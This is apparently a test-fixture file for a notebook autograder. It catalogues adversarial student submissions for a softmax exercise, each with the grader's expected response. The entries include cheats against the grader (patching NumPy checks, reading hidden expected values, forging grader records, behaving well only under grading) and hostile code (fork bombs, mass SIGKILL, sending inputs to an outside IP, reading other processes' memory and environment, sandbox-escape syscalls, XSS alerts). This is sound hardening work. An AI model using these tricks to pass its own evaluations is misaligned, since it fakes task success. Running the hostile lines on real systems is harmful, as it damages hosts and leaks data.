"""Submissions that cheat, attack or simply break, each as the source of one answer cell.

`number` is the one of the catalogue of cheats and faults in nbgrader's grading that the course was built against (1 to
38 are about what a notebook does when it runs), or a letter for one that we added. Unless a row says otherwise, the
answer cell is softmax's, that function loses its marks and every other keeps them.
"""

from dataclasses import dataclass
from textwrap import dedent

RIGHT_SOFTMAX = """
def softmax(a):
    e = np.exp(a - a.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
"""
WRONG = """
def softmax(a):
    return a * 1.0
"""


@dataclass(frozen=True)
class Attack:
    """source is the answer cell for `function`; says is part of the student's feedback; marks is what the function gets."""

    number: str
    title: str
    source: str
    says: str = ""
    marks: float = 0.0
    function: str = "softmax"

    def __str__(self):
        return f"{self.number} {self.title}"


def attack(number, title, source, then="", **expected):
    return Attack(number, title, dedent(source).strip("\n") + "\n" + then, **expected)


CHEATS = [
    attack("2", "shows a number in the function", """
        import sys
        def softmax(a):
            sys.displayhook(4)
            get_ipython().displayhook(4)
            display(4)
            return a
        """),
    attack("3", "rewrites the syntax tree of later cells", """
        import ast
        class Always(ast.NodeTransformer):
            def visit_Module(self, node):
                return ast.parse("4")
        get_ipython().ast_transformers.append(Always())
        """, WRONG),
    attack("4", "rewrites the text of later cells", """
        get_ipython().input_transformers_cleanup.append(lambda lines: ["4\\n"])
        """, WRONG),
    attack("5", "replaces run_code", """
        shell = get_ipython()
        async def run_code(*args, **kwargs):
            return False
        shell.run_code = run_code
        shell.run_cell_async = run_code
        """, WRONG),
    attack("6", "patches the comparisons of NumPy", """
        np.testing.assert_allclose = lambda *args, **kwargs: None
        np.testing.assert_array_equal = lambda *args, **kwargs: None
        np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
        """, WRONG, says="wrong"),
    attack("7", "binds np to an object that is always true", """
        class Yes:
            def __getattr__(self, name): return self
            def __call__(self, *args, **kwargs): return self
            def __eq__(self, other): return True
            def __bool__(self): return True
        np = Yes()
        def softmax(a):
            return np
        """, says="not Yes"),
    attack("8", "returns a subclass that equals everything", """
        class Equal(np.ndarray):
            def __array_ufunc__(self, *args, **kwargs): return True
            def __array_function__(self, *args, **kwargs): return True
            def __eq__(self, other): return True
        def softmax(a):
            return a.view(Equal)
        """, says="not Equal"),
    attack("9", "patches the random generator", """
        np.random.default_rng = lambda *args: np.random.RandomState(0)
        np.random.seed(0)
        """, WRONG),
    attack("10", "reads expected values in the caller's frame", """
        import sys
        def softmax(a):
            frame = sys._getframe()
            while frame:
                for name, value in {**frame.f_globals, **frame.f_locals}.items():
                    if name in ("expected", "wanted", "reference", "solution", "answer"):
                        return value(a) if callable(value) else value
                frame = frame.f_back
            return a
        """),
    attack("11", "changes expected values in place", """
        import gc
        def softmax(a):
            for thing in gc.get_objects():
                if type(thing) is np.ndarray and thing is not a and thing.flags.writeable:
                    thing[...] = 0
            return np.zeros_like(a)
        """),
    attack("12", "overwrites its input after use", RIGHT_SOFTMAX.replace("return e / e.sum(axis=-1, keepdims=True)", """p = e / e.sum(axis=-1, keepdims=True)
    a[...] = 0
    return p"""), says="changed its input"),
    attack("13", "returns a view of its input that changes later", """
        import threading, time
        def softmax(a):
            threading.Thread(target=lambda: (time.sleep(0.01), a.fill(0))).start()
            return a[...]
        """),
    attack("14", "reads hidden tests in the history", """
        def softmax(a):
            text = repr(globals().get("In")) + repr(get_ipython().history_manager.input_hist_raw)
            assert "exp" + "ected" in text, "nothing there"
            return a
        """, says="nothing there"),
    attack("15", "looks for the source notebook", """
        import pathlib
        def softmax(a):
            for folder in (".", "..", "../..", "/work", "/home", "/root", "/srv", "/mnt", "/var", "/tmp"):
                for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb"):
                    for path in pathlib.Path(folder).glob(pattern):
                        return path.read_text()
            raise FileNotFoundError("no notebook anywhere")
        """, says="no notebook anywhere"),
    attack("16", "looks for the reference in memory and on disk", """
        import gc, sys, types
        def softmax(a):
            own = softmax.__code__
            for thing in gc.get_objects():
                if isinstance(thing, types.FunctionType) and thing.__name__ == "softmax" and thing.__code__ is not own:
                    return thing(a)
            import unrolled.reference
            return unrolled.reference.softmax(a)
        """, says="unrolled.reference"),
    attack("16", "imports the checker", """
        from unrolled.comparison import EXERCISES
        def softmax(a):
            return EXERCISES["softmax"].reference(a)
        """, says="unrolled.comparison"),
    attack("17", "behaves well only when it is being graded", """
        import os
        def softmax(a):
            if os.environ.get("NBGRADER_EXECUTION"):
                return np.exp(a - a.max(-1, keepdims=True)) / np.exp(a - a.max(-1, keepdims=True)).sum(-1, keepdims=True)
            return a
        """),
    attack("18", "brings its own numpy", """
        import os, sys
        os.makedirs("numpy", exist_ok=True)
        open("numpy/__init__.py", "w").write("class ndarray: pass")
        sys.path.insert(0, os.getcwd())
        sys.modules.pop("numpy")
        """, WRONG),
    attack("19", "leaves a process behind that writes everywhere", """
        import os, subprocess
        subprocess.Popen(["/bin/sh", "-c", "sleep 1; for f in / /tmp /usr /dev/shm /root; do echo hacked > $f/hacked; done"],
                         start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    open("/tmp/hacked", "w").write("gradebook.db")
            os._exit(0)
        """, WRONG),
    attack("20", "back-dates its timestamp", """
        import os, pathlib
        for folder in (".", "..", "/tmp", "/"):
            try:
                pathlib.Path(folder, "timestamp.txt").write_text("1999-01-01 00:00:00 UTC")
            except OSError:
                pass
        """, WRONG),
    attack("21", "calls another library", """
        def softmax(a):
            from scipy.special import softmax as theirs
            return theirs(a, axis=-1)
        """, says="No module named 'scipy'"),
    attack("21", "calls another library that lies on the machine", """
        import sys
        def softmax(a):
            import glob
            for pattern in ("/usr/lib/python3*/*-packages", "/usr/local/lib/python3*/*-packages", sys.prefix + "/lib/*/*-packages"):
                sys.path += glob.glob(pattern)
            import torch
            return torch.softmax(torch.from_numpy(a), -1).numpy()
        """, says="No module named 'torch'"),
    attack("22", "sends its inputs over the network", """
        import socket
        def softmax(a):
            socket.create_connection(("1.1.1.1", 53), timeout=1).sendall(a.tobytes())
            return a
        """, says="unreachable"),
    attack("a", "asks a server on the same machine", """
        import socket
        def softmax(a):
            for port in (22, 80, 8000, 8888, 5432):
                try:
                    return socket.create_connection(("127.0.0.1", port), timeout=0.2)
                except OSError:
                    pass
            raise OSError("nobody there")
        """, says="nobody there"),
    attack("b", "reads the memory and environment of other processes", """
        import glob, os
        def softmax(a):
            found = []
            for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/mem"):
                pid = int(path.split("/")[2])
                if pid not in (1, os.getpid()):
                    found.append(path)
            assert found, "no other process"
            return a
        """, says="no other process"),
    attack("c", "traces and signals the process above it", """
        import ctypes, os
        libc = ctypes.CDLL(None)
        def softmax(a):
            for pid in range(1, 400):
                if pid != os.getpid():
                    libc.ptrace(16, pid, 0, 0)
                    libc.kill(pid, 9)
            return a
        """),
    attack("d", "kills everything it can at the outermost level", """
        import os, signal
        for pid in [-1, 0, *range(2, 300), os.getppid()]:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        """, WRONG),
    attack("e", "writes a record of its own on the grader's channel", """
        import os, socket, struct
        data = b"0" * 16 + b"all right"
        for fd in map(int, os.listdir("/proc/self/fd")):
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("socket"):
                    os.write(fd, struct.pack("<cI", b"R", len(data)) + data)
            except OSError:
                pass
        """, WRONG, says="channel"),
    attack("f", "writes rubbish on the grader's channel", """
        import os
        for fd in map(int, os.listdir("/proc/self/fd")):
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("socket"):
                    os.write(fd, b"\\xff" * 5000)
            except OSError:
                pass
        """, WRONG),
    attack("g", "floods the grader's channel", """
        import os, struct
        def flood():
            for fd in map(int, os.listdir("/proc/self/fd")):
                try:
                    if os.readlink(f"/proc/self/fd/{fd}").startswith("socket"):
                        while True:
                            os.write(fd, struct.pack("<cI", b"M", 1 << 20) + b" " * (1 << 20))
                except OSError:
                    pass
        flood()
        """, WRONG),
    attack("h", "closes the grader's channel", """
        import os
        os.closerange(0, 256)
        """, WRONG),
    attack("i", "puts another file in the place of the grader's channel", """
        import os
        null = os.open("/dev/null", os.O_RDWR)
        for fd in range(3, 64):
            if fd != null:
                os.dup2(null, fd)
        """, WRONG),
    attack("j", "forges the next record from a thread", """
        import os, struct, threading, time
        def forge():
            fd = next(int(n) for n in os.listdir("/proc/self/fd") if os.readlink(f"/proc/self/fd/{n}").startswith("socket"))
            while True:
                os.write(fd, struct.pack("<cI", b"R", 20) + b"0" * 20)
                time.sleep(0.001)
        threading.Thread(target=forge, daemon=True).start()
        """, WRONG),
    attack("k", "replaces the recording of calls", """
        import unrolled.recording as recording
        recording.call = lambda fn, inputs, **kwargs: recording.Outcome(value=np.ones(3))
        recording.record = lambda fn, cases: recording.pack([vars(recording.Outcome(value=np.ones(3))) for case in cases])
        """, WRONG),
    attack("l", "replays the record of another function", """
        import unrolled.recording as recording
        record, kept = recording.record, []
        def replay(fn, cases):
            kept.append(record(fn, cases))
            return kept[0]
        recording.record = replay
        """, WRONG),
    attack("m", "brings its own check", """
        def check(fn):
            print("right")
        import unrolled, sys
        unrolled.check = check
        sys.modules["unrolled.recording"] = unrolled
        """, WRONG),
    attack("n", "changes the code of the real check", """
        check.__code__ = (lambda fn: None).__code__
        """, WRONG),
    attack("o", "keeps on patching NumPy from a thread", """
        import threading, time
        def patch():
            while True:
                np.tanh = np.exp = np.matmul = lambda *args, **kwargs: 0
                time.sleep(0.001)
        threading.Thread(target=patch, daemon=True).start()
        """, WRONG),
    attack("p", "patches NumPy at exit and when collected", """
        import atexit
        class Bomb:
            def __del__(self):
                np.tanh = lambda x: x
                raise SystemExit
        atexit.register(lambda: print("right"))
        def softmax(a):
            bomb = Bomb()
            bomb.bomb = bomb
            return bomb
        """, says="not Bomb"),
    attack("q", "uses a name that only looks like the function's", RIGHT_SOFTMAX.replace("softmax", "s\u043eftmax"), says="no function of this name"),
    attack("r", "returns a generator", """
        def softmax(a):
            yield from a
        """, says="not generator"),
    attack("s", "returns a thousand million values", """
        def softmax(a):
            return np.broadcast_to(np.float64(0), (1000, 1000, 1000))
        """, says="1000000000 values"),
    attack("t", "is right at the first call only", RIGHT_SOFTMAX.replace("def softmax(a):", """calls = []
def softmax(a):
    calls.append(1)
    if len(calls) > 1:
        return a"""), says="of 4 cases fail"),
    attack("u", "raises its own limits", """
        import resource
        def softmax(a):
            for limit in range(16):
                resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            return a
        """, says="raise maximum limit"),
    attack("v", "returns an object that lies about its class", """
        class Liar:
            __class__ = property(lambda self: np.ndarray)
            dtype = property(lambda self: 1 / 0)
            def __array__(self, *args, **kwargs): raise SystemExit
        Liar.__name__ = "ndarray"
        def softmax(a):
            return Liar()
        """, says="must be a NumPy array"),
    attack("w", "returns an object whose metaclass lies", """
        class Meta(type):
            def __eq__(self, other): return True
            def __hash__(self): return hash(np.ndarray)
            def __instancecheck__(self, thing): return True
            __name__ = property(lambda self: 1 / 0)
        class Liar(metaclass=Meta):
            dtype = np.dtype(float)
            def copy(self): return self
        def softmax(a):
            return Liar()
        """, says="must be a NumPy array"),
    attack("x", "traces every call", """
        import sys, threading
        def spy(frame, event, arg):
            for name, value in frame.f_locals.items():
                if type(value) is np.ndarray and value.flags.writeable:
                    value[...] = 0
            return spy
        sys.settrace(spy)
        sys.setprofile(spy)
        threading.settrace(spy)
        """, WRONG),
    attack("y", "changes Python itself through ctypes", """
        import ctypes
        def softmax(a):
            for number in range(-5, 257):
                ctypes.memset(id(number) + 24, 1, 4)
            return a
        """),
    attack("z", "returns lists within lists without end", """
        def softmax(a):
            lists = []
            for _ in range(50):
                lists.append(lists)
            return lists
        """, says="not list"),
    attack("aa", "looks for inputs and nonces to take home", """
        import sys
        def softmax(a):
            raise ValueError(f"{a.ravel().tolist()}")
        """, says="ValueError"),
    attack("ab", "mounts and makes namespaces of its own", """
        import ctypes, os
        libc = ctypes.CDLL(None)
        def softmax(a):
            made = libc.unshare(0x10000000) == 0 or libc.mount(b"none", b"/", None, 0, None) == 0
            made = made or libc.syscall(56 if os.uname().machine == "x86_64" else 220, 0x10000011, 0, 0, 0, 0) >= 0
            assert made, "not allowed"
            return a
        """, says="not allowed"),
    attack("ab", "takes memory that no limit of a process counts", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def softmax(a):
            shared = libc.shmget(0, 10**8, 0o1777)
            assert shared == -1 and ctypes.get_errno() == 1
            while True:
                os.write(os.memfd_create("more"), bytes(10**8))
        """, says="Operation not permitted"),
    attack("ac", "writes where Python and the checker lie", """
        import glob
        def softmax(a):
            for path in ["/python/numpy/__init__.py", "/unrolled/kernel.py", "/python/unrolled/recording.py", "/usr/hacked"]:
                open(path, "w")
            return a
        """, says="Read-only file system"),
]

FAULTS = [
    attack("29", "ends its process in the function", """
        import os
        def softmax(a):
            os._exit(0)
        """, says="ended its own process"),
    attack("29", "kills its process in the function", """
        import os, signal
        def softmax(a):
            os.kill(os.getpid(), signal.SIGKILL)
        """, says="ended its own process"),
    attack("29", "ends the kernel at the outermost level", """
        def softmax(a):
            return a
        import os
        os._exit(0)
        """),
    attack("29", "asks the kernel to exit", """
        get_ipython().ask_exit()
        get_ipython().kernel.do_shutdown(False)
        exit()
        """),
    attack("30", "raises SystemExit", """
        def softmax(a):
            raise SystemExit(0)
        """, says="SystemExit"),
    attack("30", "raises KeyboardInterrupt", """
        def softmax(a):
            raise KeyboardInterrupt
        """, says="KeyboardInterrupt"),
    attack("30", "raises KeyboardInterrupt at the outermost level", """
        raise KeyboardInterrupt
        """),
    attack("31", "never ends", """
        def softmax(a):
            while True:
                pass
        """, says="longer than 2 seconds"),
    attack("31", "never ends and cannot be interrupted", """
        import signal
        def softmax(a):
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                try:
                    while True: pass
                except BaseException:
                    pass
        """, says="longer than 2 seconds"),
    attack("31", "never ends at the outermost level", """
        while True:
            pass
        """),
    attack("32", "takes all memory at once", """
        def softmax(a):
            return np.ones(10**10)
        """, says="MemoryError"),
    attack("32", "takes all memory bit by bit", """
        kept = []
        def softmax(a):
            while True:
                kept.append(np.ones(10**7))
        """),
    attack("32", "takes all memory from many processes", """
        import os, time
        def softmax(a):
            for _ in range(8):
                os.fork()
                kept = np.ones(4 * 10**6)
            time.sleep(60)
        """),
    attack("33", "forks without end", """
        import os
        def softmax(a):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        """),
    attack("33", "forks without end at the outermost level", """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """),
    attack("33", "goes on twice", """
        import os
        os.fork()
        """, WRONG),
    attack("34", "prints 200 MB in the function", """
        def softmax(a):
            for _ in range(200):
                print("x" * 10**6)
            return a
        """),
    attack("34", "prints 200 MB at the outermost level", """
        for _ in range(200):
            print("x" * 10**6)
        """, RIGHT_SOFTMAX, marks=1.0),
    attack("35", "asks for input", """
        def softmax(a):
            return input("scores? ")
        """, says="input"),
    attack("36", "warns, and is right", """
        import warnings, sys
        def softmax(a):
            warnings.warn("careful")
            print("working on it", file=sys.stderr)
            np.log(0)
            e = np.exp(a - a.max(axis=-1, keepdims=True))
            return e / e.sum(axis=-1, keepdims=True)
        """, marks=1.0),
    attack("37", "has a NUL in its source", "def softmax(a):\n    return a\0", says="null"),
    attack("38", "closes its standard output", """
        import sys, os
        sys.stdout.close()
        sys.stderr = None
        os.close(1)
        os.close(2)
        """, RIGHT_SOFTMAX, marks=1.0),
    attack("38", "redirects its standard output", """
        import sys
        sys.stdout = open("/dev/full", "w")
        sys.stderr = sys.stdout
        """, RIGHT_SOFTMAX, marks=1.0),
    attack("38", "closes its standard output in the function", """
        import sys, os
        def softmax(a):
            sys.stdout.close()
            os.closerange(0, 100)
            return a
        """),
    attack("ad", "fills its disk", """
        import os
        def softmax(a):
            for place in ("/tmp/full", "/dev/shm/full"):
                with open(place, "wb") as file:
                    while True:
                        file.write(b"0" * 10**7)
        """, says="OSError"),
    attack("ae", "crashes in C", """
        import ctypes
        def softmax(a):
            ctypes.string_at(0)
        """, says="ended its own process"),
    attack("af", "calls itself without end", """
        import sys
        sys.setrecursionlimit(10**9)
        def softmax(a):
            return softmax(a)
        """),
    attack("ag", "raises an error of a hundred megabytes", """
        def softmax(a):
            raise ValueError("x" * 10**8)
        """, says="ValueError"),
    attack("ah", "raises an error that cannot be shown", """
        class Silent(Exception):
            def __str__(self): raise self
            __repr__ = __str__
            __traceback__ = property(lambda self: 1 / 0)
        def softmax(a):
            raise Silent
        """, says="Silent"),
    attack("ai", "raises an error that takes for ever to show", """
        class Slow(Exception):
            def __str__(self):
                while True: pass
        def softmax(a):
            raise Slow
        """, says="longer than 2 seconds"),
    attack("aj", "stops the kernel's event loop", """
        import asyncio
        asyncio.get_running_loop().stop()
        for task in asyncio.all_tasks():
            task.cancel()
        """, WRONG),
    attack("ak", "sets timers and handlers", """
        import signal
        signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        """, WRONG),
    attack("al", "is no Python", """
        def softmax(a:
            return a
        """, says="SyntaxError"),
    attack("am", "shows markup and scripts", """
        from IPython.display import HTML, Javascript, display
        display(HTML("<script>alert(1)</script><b onclick='alert(1)'>bold</b>"), Javascript("alert(1)"))
        display({"text/html": "<img src=x onerror=alert(1)>", "image/svg+xml": "<svg onload=alert(1)>", "text/latex": "<script>"}, raw=True)
        print("\\x00\\ud800<script>")
        def softmax(a):
            raise ValueError("<script>alert(1)</script>")
        """, says="<script>"),
]
